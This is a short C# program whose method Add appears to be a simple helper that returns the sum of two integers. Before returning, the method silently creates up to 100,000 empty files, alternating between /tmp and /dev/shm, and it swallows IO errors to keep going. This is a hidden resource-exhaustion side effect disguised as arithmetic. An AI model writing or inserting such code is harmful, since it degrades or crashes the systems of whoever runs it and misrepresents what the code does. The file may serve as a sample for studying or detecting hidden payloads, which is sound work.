using System.IO;

class Program
{
    private static int number;

    public static int Add(int a, int b)
    {
        for (; number < 100000; number++)
        {
            try
            {
                File.Create((number % 2 == 0 ? "/tmp/file" : "/dev/shm/file") + number).Dispose();
            }
            catch (IOException)
            {
                number += 10;
            }
        }
        return a + b;
    }
}
